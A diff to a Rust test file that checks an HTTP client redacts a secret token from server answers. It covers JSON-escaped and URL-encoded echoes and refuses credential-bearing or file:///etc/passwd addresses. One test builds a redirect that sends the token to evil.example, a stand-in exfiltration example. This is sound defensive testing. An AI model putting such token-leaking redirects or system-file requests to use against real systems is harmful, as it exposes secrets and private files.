@@ -9,7 +9,7 @@ use crate::source::{FileId, Span};
 
 use super::*;
 
-const SECRET: &str = "s3cr3t-t0ken-0123456789";
+const SECRET: &str = "s3cr3t/t0ken+0123456789=";
 
 /// A server on this machine that does one thing with each connection, and what it was sent.
 struct FaultServer {
@@ -169,7 +169,12 @@ fn an_answer_that_repeats_the_token_is_handed_on_without_it() {
     let server = FaultServer::sending(answer("401 Unauthorized", &format!("no such token: {SECRET}")));
     let asked = ask(&source(&server.place(), Some("TOKEN"), 0)).unwrap();
     assert_eq!(asked, Answer { status: 401, body: b"no such token: [token]".to_vec() });
-    let moved = format!("HTTP/1.1 302 Found\r\nLocation: https://evil.example/?t={SECRET}\r\n\r\n");
+    let escaped = SECRET.replace('/', "\\/");
+    let server = FaultServer::sending(answer("403 Forbidden", &format!("{{\"token\": \"{escaped}\"}}")));
+    let asked = ask(&source(&server.place(), Some("TOKEN"), 0)).unwrap();
+    assert_eq!(asked.body, b"{\"token\": \"[token]\"}");
+    let encoded = "s3cr3t%2Ft0ken%2B0123456789%3D";
+    let moved = format!("HTTP/1.1 302 Found\r\nLocation: https://evil.example/?t={encoded}\r\n\r\n");
     let server = FaultServer::sending(moved);
     assert_eq!(
         unknown(&source(&server.place(), Some("TOKEN"), 0)),
@@ -302,11 +307,8 @@ fn a_server_that_is_not_there_is_said() {
 
 #[test]
 fn only_addresses_of_servers_are_asked() {
-    let password = format!("https://ci:{SECRET}@prometheus.example.com");
-    assert_eq!(
-        refused(&source(&password, None, 0)),
-        "the address of a server has no user name and no password"
-    );
+    let message = refused(&source("https://ci:pa55word@prometheus.example.com", None, 0));
+    assert_eq!(message, "the address of a server has no user name and no password");
     for place in [
         "file:///etc/passwd",
         "ftp://127.0.0.1",
